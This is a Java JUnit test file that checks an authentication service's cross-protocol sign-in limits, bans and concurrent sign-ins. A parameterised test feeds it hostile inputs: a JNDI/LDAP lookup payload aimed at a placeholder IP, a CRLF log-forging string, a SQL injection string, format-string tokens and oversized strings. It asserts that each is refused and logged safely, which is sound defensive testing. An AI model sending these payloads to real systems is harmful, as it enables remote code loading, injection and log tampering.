package svc.auth.signin;

import static org.assertj.core.api.Assertions.assertThat;
import static svc.auth.signin.ProtocolFixture.ANN;
import static svc.auth.signin.ProtocolFixture.ELSEWHERE;
import static svc.auth.signin.ProtocolFixture.FAILURES;
import static svc.auth.signin.ProtocolFixture.IMAP;
import static svc.auth.signin.ProtocolFixture.INVALID;
import static svc.auth.signin.ProtocolFixture.PER_ACCOUNT;
import static svc.auth.signin.ProtocolFixture.SMTP;
import static svc.auth.signin.ProtocolFixture.basic;
import static svc.auth.signin.ProtocolFixture.caller;
import static svc.auth.signin.ProtocolFixture.client;

import java.net.Inet6Address;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import svc.api.identity.Account;
import svc.api.identity.Authenticator.Authenticated;
import svc.api.identity.Authenticator.Rejected;
import svc.api.identity.SignIns;
import svc.api.identity.SignIns.Blocked;
import svc.api.identity.SignIns.Client;
import svc.api.identity.SignIns.Outcome;
import svc.api.identity.SignIns.SignedIn;
import svc.api.net.IpNetwork;
import svc.api.ratelimit.RateLimiter.Banned;
import svc.api.ratelimit.RateLimiter.Limited;
import svc.auth.storage.AuthFixture;
import svc.testkit.Covers;

/** Limits and bans of sign-ins over all protocols, hostile texts and concurrent sign-ins. */
class ProtocolLimitsTest {

    @TempDir
    Path directory;

    private ProtocolFixture protocols;
    private AuthFixture fixture;
    private SignIns signIns;
    private Account ann;

    @BeforeEach
    void open() throws Exception {
        protocols = new ProtocolFixture(directory);
        fixture = protocols.fixture;
        signIns = fixture.signIns;
        ann = protocols.ann;
    }

    @AfterEach
    void close() {
        protocols.close();
    }

    private void fail(int times) {
        for (int i = 0; i < times; i++) {
            assertThat(signIns.password(IMAP, ANN, "wrong " + i)).isEqualTo(INVALID);
        }
    }

    @Test
    @Covers(value = "SEC-05", part = "failures of all protocols count together", open = "IMAP and DAV")
    void failuresOfAllProtocolsAndOfHttpCountTogether() {
        String token = fixture.token(ANN);
        String secret = fixture.appPassword(ann);
        assertThat(fixture.present(basic(AuthFixture.PASSWORD))).isInstanceOf(Authenticated.class);
        assertThat(signIns.password(IMAP, ANN, "wrong 1")).isEqualTo(INVALID);
        assertThat(signIns.password(SMTP, "nobody@example.org", "wrong 2")).isEqualTo(INVALID);
        assertThat(signIns.token(SMTP, "x".repeat(32))).isEqualTo(INVALID);
        assertThat(fixture.present(basic("wrong 4"))).isInstanceOf(Rejected.class);
        assertThat(fixture.login(ANN, "wrong 5")).isInstanceOf(SignIn.NotSignedIn.class);

        Outcome banned = new Blocked(new Banned(protocols.limiterClock.now().plus(Duration.ofMinutes(15))));
        assertThat(signIns.password(SMTP, "bob@example.org", AuthFixture.PASSWORD))
                .isEqualTo(banned);
        assertThat(signIns.password(IMAP, ANN, "wrong 6"))
                .as("from a network from which the account has signed in")
                .isEqualTo(INVALID);
        assertThat(signIns.token(IMAP, "unknown")).isEqualTo(banned);
        assertThat(fixture.present(basic("wrong 7")))
                .isInstanceOfSatisfying(
                        Rejected.class, refusal -> assertThat(refusal.status()).isEqualTo(403));

        assertThat(signIns.token(IMAP, token)).isInstanceOf(SignedIn.class);
        assertThat(signIns.password(IMAP, ANN, secret)).isInstanceOf(SignedIn.class);
        assertThat(signIns.password(IMAP, ANN, AuthFixture.PASSWORD))
                .as("verified by HTTP before the ban")
                .isInstanceOf(SignedIn.class);
        assertThat(signIns.password(ELSEWHERE, ANN, "wrong")).isEqualTo(INVALID);
        protocols.limiterClock.leap(Duration.ofMinutes(15));
        assertThat(signIns.password(IMAP, ANN, "wrong 6")).isEqualTo(INVALID);
    }

    @Test
    void theSameOldPasswordCausesNoBan() {
        for (int i = 0; i < 2 * FAILURES; i++) {
            assertThat(signIns.password(IMAP, ANN, "an old password")).isEqualTo(INVALID);
            assertThat(signIns.password(SMTP, ANN, "an old password")).isEqualTo(INVALID);
        }
        fail(FAILURES - 2);
        assertThat(signIns.password(IMAP, ANN, AuthFixture.PASSWORD)).isInstanceOf(SignedIn.class);
        fail(FAILURES - 1);
    }

    @Test
    @Covers(value = "SEC-04", part = "sign-ins of other protocols")
    void signInsCountForTheLimitsOfTheirAddressAndAccount() {
        String secret = fixture.appPassword(ann);
        for (int i = 0; i < PER_ACCOUNT; i++) {
            assertThat(signIns.password(IMAP, ANN, secret)).isInstanceOf(SignedIn.class);
        }
        assertBlocked(signIns.password(IMAP, ANN, secret), "http_per_account_baseline");
        assertBlocked(signIns.password(ELSEWHERE, ANN, secret), "http_per_account_baseline");
        Outcome unknown = INVALID;
        for (int i = 0; i < 60 && unknown.equals(INVALID); i++) {
            unknown = signIns.token(IMAP, "unknown");
        }
        assertBlocked(unknown, "http_per_ip_baseline");
        assertThat(signIns.token(ELSEWHERE, "unknown")).isEqualTo(INVALID);
    }

    private static void assertBlocked(Outcome outcome, String limit) {
        assertThat(outcome)
                .isInstanceOfSatisfying(
                        Blocked.class,
                        blocked -> assertThat(blocked.rejection())
                                .isInstanceOfSatisfying(
                                        Limited.class,
                                        limited -> assertThat(limited.quota().limit())
                                                .isEqualTo(limit)));
    }

    static List<String> hostileTexts() {
        return List.of(
                "\0",
                AuthFixture.PASSWORD + "\0",
                AuthFixture.PASSWORD + "\ud800",
                AuthFixture.PASSWORD + "\ufffd",
                AuthFixture.PASSWORD + "\u00ad",
                "\r\nevent=sign_in result=ok",
                ANN + "\r\n",
                "%s%n{}${jndi:ldap://192.0.2.1/}",
                "a".repeat(10_000_000),
                "\u1e9b\u0323".repeat(1_000_000),
                ANN + "\0".repeat(1_000_000),
                "' OR 1=1 --");
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void hostileTextsAreRefusedAndNotLogged(String text) {
        assertThat(signIns.password(IMAP, ANN, text)).isEqualTo(INVALID);
        assertThat(signIns.password(IMAP, text, AuthFixture.PASSWORD)).isEqualTo(INVALID);
        assertThat(signIns.password(IMAP, text, text)).isEqualTo(INVALID);
        assertThat(signIns.token(IMAP, text)).isEqualTo(INVALID);
        assertThat(protocols.log.list).hasSize(4);
        assertThat(protocols.logged("event=sign_in protocol=imap", "result=refused"))
                .hasSize(4);
        assertThat(protocols.log.list)
                .allMatch(event -> event.getFormattedMessage().length() < 200);
        assertThat(signIns.password(IMAP, ANN, AuthFixture.PASSWORD)).isInstanceOf(SignedIn.class);
    }

    @Test
    void theNameOfANetworkInterfaceDoesNotPreventABan() throws Exception {
        byte[] linkLocal = IpNetwork.address("fe80::7").orElseThrow().getAddress();
        Client scoped = new Client("imap", Inet6Address.getByAddress("", linkLocal, 1));
        for (int i = 0; i < FAILURES; i++) {
            assertThat(signIns.password(scoped, ANN, "wrong " + i)).isEqualTo(INVALID);
        }
        assertThat(signIns.password(scoped, ANN, "wrong")).isInstanceOf(Blocked.class);
    }

    @Test
    void concurrentSignInsAreIndependentAndTheirFailuresAreCounted() throws Exception {
        int clients = 8;
        ExecutorService threads = Executors.newFixedThreadPool(clients);
        CountDownLatch start = new CountDownLatch(1);
        List<Future<Outcome>> right = new ArrayList<>();
        List<Future<Outcome>> wrong = new ArrayList<>();
        for (int i = 0; i < clients; i++) {
            String secret = "wrong " + i;
            Client each = client("imap", "198.51.100." + i);
            boolean good = i % 2 == 0;
            (good ? right : wrong).add(threads.submit(() -> {
                start.await();
                return signIns.password(good ? each : IMAP, ANN, good ? AuthFixture.PASSWORD : secret);
            }));
        }
        start.countDown();
        for (Future<Outcome> each : right) {
            assertThat(caller(each.get()).account()).isEqualTo(ann);
        }
        for (Future<Outcome> each : wrong) {
            assertThat(each.get()).isEqualTo(INVALID);
        }
        threads.shutdown();
        assertThat(signIns.password(IMAP, ANN, "the fifth")).isEqualTo(INVALID);
        assertThat(signIns.password(IMAP, ANN, "the sixth")).isInstanceOf(Blocked.class);
    }
}
